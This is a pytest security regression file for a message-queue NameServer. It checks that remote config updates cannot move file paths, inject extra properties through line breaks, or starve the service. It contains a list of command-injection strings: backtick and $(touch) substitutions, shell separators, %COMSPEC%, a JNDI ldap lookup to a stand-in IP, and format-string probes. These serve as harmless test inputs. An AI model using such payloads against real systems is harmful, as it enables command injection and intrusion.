"""Settings as a weapon: what was done through NameServer configuration in the field, each case under its number.

Owns: case F091, and of F090, F093 and F099 what needs restarts, the audit log, or a broker that stays; the rest of
    these is in test_configuration_cases.py.
Must not know: the package under test.
"""

import contextlib
import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import javaproperties
import pytest
from tests.support.callers import audit_lines, wait_for_audit
from tests.support.field import Names, StartServer
from tests.support.peer import CFGGET, CFGSET, SUCCESS, SYSTEM_ERROR, Peer, topics_named
from tests.support.server_process import ServerProcess, run_command
from tests.support.standing_rule import StandingRule
from tests.support.wire import Answer

NO_PERMISSION: Final = 16
PATH_KEYS: Final = ("configStorePath", "kvConfigPath", "rocketmqHome", "dataDir", "auditLog", "aclFile")


def update(peer: Peer, text: str) -> Answer:
    return peer.request(CFGSET, None, text.encode())


def listing(peer: Peer) -> dict[str, str]:
    return javaproperties.loads(peer.request(CFGGET).body)


def all_files(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


class TestF090:
    """Anyone who reached the port could move the file of settings, and so write a text of choice anywhere."""

    @pytest.mark.parametrize("key", PATH_KEYS)
    def test_f090_an_audit_line_names_the_peer_and_the_keys(self, own_server: StartServer, key: str) -> None:
        server = own_server()
        with Peer(server.address) as peer:
            assert update(peer, f"productEnvName=evil\n{key}=/nowhere/evil\n").code == NO_PERMISSION
            (line,) = wait_for_audit(server, event="denied", code=CFGSET)
            assert line["peer"] == peer.local_address
        assert key in line["reason"]
        assert "/nowhere/evil" not in line["reason"], "the name of the key is enough"
        assert line["request"] == "UPDATE_NAMESRV_CONFIG"

    def test_f090_nothing_of_it_waits_for_a_restart(self, own_server: StartServer, tmp_path: Path) -> None:
        server = own_server()
        target = tmp_path / "elsewhere" / "cron"

        def attack() -> dict[str, str]:
            with Peer(server.address) as peer:
                before = listing(peer)
                for key in PATH_KEYS:
                    assert update(peer, f"{key}={target}").code == NO_PERMISSION
                    assert update(peer, f"productEnvName=* * * * * evil\n{key}={target}").code == NO_PERMISSION
                assert peer.put_kv("N", "K", "* * * * * evil").code == SUCCESS
                assert listing(peer) == before
                return before

        first = attack()
        server = own_server()
        second = attack()

        server = own_server()
        assert second | {"listenPort": ""} == first | {"listenPort": ""}
        assert not target.parent.exists()
        assert all_files(tmp_path) <= {
            f"data/{name}"
            for name in ("kvConfig.json", "kvConfig.json.bak", "audit.jsonl", "namesrv.pid", "namesrv.pid.addresses")
        }
        with Peer(server.address) as peer:
            assert listing(peer) | {"listenPort": ""} == first | {"listenPort": ""}


WATCHED: Final = """\
import os, sys

_LOG = os.open(os.environ["EVENTS_FILE"], os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
_PROCESSES = ("subprocess.Popen", "os.system", "os.exec", "os.fork", "os.forkpty", "os.posix_spawn", "os.spawn", "pty.spawn")
_IS_IN = [False]

def _watch(event, arguments):
    if _IS_IN[0]:
        return
    _IS_IN[0] = True
    try:
        if event in _PROCESSES:
            os.write(_LOG, f"process {event} {arguments!r}\\n".encode())
        elif event == "open" and isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            os.write(_LOG, f"write {arguments[0]!r}\\n".encode())
    finally:
        _IS_IN[0] = False

sys.addaudithook(_watch)
"""
"""A module that Python imports at its start: it writes down every process that is started and every file that is opened
to be written, whatever part of the program or of a library does it."""


class TestF091:
    """Config values such as the home folder were later used in a shell command.

    The row watches for a minute; here the interpreter itself tells of every process and every file, which needs no waiting.
    """

    @pytest.fixture
    def events(self, tmp_path: Path) -> Path:
        hooks = tmp_path / "hooks"
        hooks.mkdir()
        (hooks / "sitecustomize.py").write_text(WATCHED)
        return tmp_path / "events.txt"

    @pytest.fixture
    def environment(self, events: Path) -> dict[str, str]:
        source = Path(__file__).resolve().parents[2] / "src"
        path = os.pathsep.join((str(events.parent / "hooks"), str(source)))
        return {"PYTHONPATH": path, "EVENTS_FILE": str(events)}

    @staticmethod
    def attacks(marker: Path) -> Iterator[str]:
        touch = f"touch {marker}"
        yield from (f"`{touch}`", f"$({touch})", f"; {touch}", f"| {touch}", f"&& {touch} #", f"'; {touch}; '")
        yield from (f'"; {touch}; "', f"%COMSPEC% /c {touch}", "%s%n%x%d", "${jndi:ldap://192.0.2.1/a}", f"a\n{touch}")
        yield "{0.__class__.__mro__}"
        yield "`" * 1024 * 1024

    @staticmethod
    def text_keys(peer: Peer) -> list[str]:
        """Return the keys that hold a text: those whose listed value is no number and no boolean."""
        listed = listing(peer)
        keys = [
            key for key, value in listed.items() if not value.lstrip("-").isdigit() and value not in ("true", "false")
        ]
        assert {"productEnvName", "bindAddress", "configStorePath"} <= set(keys)
        return [*keys, "rocketmqHome"]

    def test_f091_values_of_requests_are_data_only(
        self, tmp_path: Path, events: Path, environment: dict[str, str]
    ) -> None:
        marker = tmp_path / "owned"
        folder = tmp_path / "run"
        with ServerProcess(folder, environment=environment) as server:
            rule = StandingRule(server)
            with Peer(server.address, timeout=30) as peer:
                home_answers = set()
                for key in self.text_keys(peer):
                    for attack in self.attacks(marker):
                        answer = update(peer, javaproperties.dumps({key: attack}, timestamp=False))
                        assert answer.code in (SUCCESS, SYSTEM_ERROR, NO_PERMISSION), (key, answer)
                        home_answers |= {answer.code} if key == "rocketmqHome" else set()
                for attack in self.attacks(marker):
                    # More than a header may have ends the connection, before any of it is looked at.
                    with contextlib.suppress(ConnectionError), Peer(server.address, timeout=30) as own:
                        own.put_kv("N", "K", attack)
                    peer.put_kv("ORDER_TOPIC_CONFIG", attack[:100], attack[:100])
                    assert peer.ask_route(attack[:100]).code != SUCCESS
                assert home_answers == {NO_PERMISSION}
            rule.check()
        with ServerProcess(folder, environment=environment) as again, Peer(again.address) as peer:
            assert listing(peer)["configStorePath"] == str(folder / "data" / "namesrv.properties")

        self.check(events, folder, marker)

    def test_f091_values_of_the_command_line_are_data_only(
        self, tmp_path: Path, events: Path, environment: dict[str, str]
    ) -> None:
        marker = tmp_path / "owned"
        folder = tmp_path / "run"
        folder.mkdir()
        for attack in [each for each in self.attacks(marker) if len(each) < 100_000]:
            flags = [part for key in ("rocketmqHome", "productEnvName") for part in ("--set", f"{key}={attack}")]
            flags += ["--data-dir", str(folder / "data"), "--listenPort", "0", "--bindAddress", "127.0.0.1"]
            checked = run_command("namesrv", "--check-config", *flags, folder=folder, environment=environment)
            assert checked.returncode == (78 if "\n" in attack else 0), checked.stderr
        attack = f"$(touch {marker})`touch {marker}`"
        settings = ("--set", f"rocketmqHome={attack}", "--set", f"productEnvName={attack}")
        everywhere = environment | {"ROCKETMQ_HOME": attack}
        with ServerProcess(folder, *settings, environment=everywhere) as server, Peer(server.address) as peer:
            assert listing(peer)["productEnvName"] == attack

        self.check(events, folder, marker)

    @staticmethod
    def check(events: Path, folder: Path, marker: Path) -> None:
        said = events.read_text("utf-8").splitlines()
        assert any("kvConfig" in line or "namesrv" in line for line in said), "the hook was there"
        assert [line for line in said if line.startswith("process")] == []
        allowed = (repr(str(folder))[1:-1], "/dev/null", "__pycache__", str(Path(sys.prefix).resolve()))
        assert [line for line in said if not any(each in line for each in allowed)] == []
        assert not marker.exists()


class TestF093:
    """The remaining keys could still be set by anybody to cripple the service, for instance one thread or a queue of one."""

    CHANGES: Final = (
        "defaultThreadPoolNums=1\nclientRequestThreadPoolNums=1\nserverWorkerThreads=1\nserverSelectorThreads=1",
        "clientRequestThreadPoolQueueCapacity=1\ndefaultThreadPoolQueueCapacity=1\nunRegisterBrokerQueueCapacity=1",
        "scanNotActiveBrokerInterval=1",
        "scanNotActiveBrokerInterval=86400000",
        "serverChannelMaxIdleTimeSeconds=90",
        "enableTopicList=false\nenableAllTopicList=false",
        "serverSocketBacklog=1\nserverSocketSndBufSize=1\nserverSocketRcvBufSize=1",
        "writeBufferHighWaterMark=1\nwriteBufferLowWaterMark=1",
        "serverOnewaySemaphoreValue=1\nserverAsyncSemaphoreValue=1\nuseEpollNativeSelector=true",
        "listenPort=1\nbindAddress=192.0.2.1",
        "tls.server.mode=enforcing\ntls.server.certPath=/nowhere\ntls.test.mode.enable=false",
        "enableShutdownGracefully=true\nshutdownWaitTimeSeconds=1",
        "clusterTest=true\nproductEnvName=evil",
        "orderMessageEnable=true\nsupportActingMaster=true\nnotifyMinBrokerIdChanged=true",
    )
    OUT_OF_RANGE: Final = (
        "serverChannelMaxIdleTimeSeconds=1",
        "serverChannelMaxIdleTimeSeconds=89",
        "needWaitForService=true\nwaitSecondsForService=86400",
        "waitSecondsForService=601",
        "defaultThreadPoolNums=0",
        "clientRequestThreadPoolQueueCapacity=0",
        "scanNotActiveBrokerInterval=31536000000",
    )

    @pytest.mark.parametrize("body", OUT_OF_RANGE)
    def test_f093_no_value_that_would_stop_the_service_is_taken_from_a_request(
        self, own_server: StartServer, body: str
    ) -> None:
        server = own_server()
        with Peer(server.address) as peer:
            before = listing(peer)
            answer = update(peer, f"orderMessageEnable=true\n{body}")
            assert answer.code == SYSTEM_ERROR
            assert "must be between" in (answer.remark or "")
            assert listing(peer) == before

    def test_f093_a_file_may_go_further(self, own_server: StartServer) -> None:
        server = own_server(serverChannelMaxIdleTimeSeconds=2)
        with Peer(server.address) as peer:
            peer.expect_closed(10)

    def test_f093_after_any_accepted_changes_brokers_stay_and_routes_are_served(
        self, own_server: StartServer, names: Names
    ) -> None:
        server = own_server()
        broker = names.broker()
        with Peer(server.address) as of_broker, Peer(server.address, timeout=1) as client:
            of_broker.registered(broker, topics_named(names("T"), names("U")))
            for body in self.CHANGES:
                answer = update(client, body)
                assert answer.code == SUCCESS, (body, answer)
                for _ in range(100):
                    assert client.routed(names("T")).perms == {broker.name: 6}, body
                with Peer(server.address, timeout=1) as newcomer:
                    assert newcomer.routed(names("U")).perms == {broker.name: 6}, body
            assert of_broker.heartbeat(broker).code == SUCCESS
        made = audit_lines(server, event="change", code=CFGSET)
        assert {key for line in made for key in line["target"]["keys"]} >= {"defaultThreadPoolNums", "listenPort"}
        assert made[2]["before"] == {"scanNotActiveBrokerInterval": "5000"}
        assert made[2]["after"] == {"scanNotActiveBrokerInterval": "1"}


class TestF099:
    """Values kept their line breaks and landed in the file as lines of their own."""

    def test_f099_what_was_refused_is_not_there_after_a_restart_either(self, own_server: StartServer) -> None:
        server = own_server()
        with Peer(server.address) as peer:
            before = listing(peer)
            for value in ("a\\nlistenPort=1", "a\\r\\nlistenPort=1\\n# b\\\\", "a\\u000alistenPort=1"):
                assert update(peer, f"productEnvName={value}").code == SYSTEM_ERROR
            assert update(peer, "productEnvName=a\\\\nlistenPort=1\\\\").code == SUCCESS
        server = own_server()
        with Peer(server.address) as peer:
            after = listing(peer)
        changed = {key for key in before.keys() | after.keys() if before.get(key) != after.get(key)} - {"listenPort"}
        assert changed == {"productEnvName"}
        assert after["productEnvName"] == "a\\nlistenPort=1\\"
        saved = javaproperties.loads((server.folder / "data" / "namesrv.properties").read_bytes())
        assert saved == {"productEnvName": "a\\nlistenPort=1\\"}
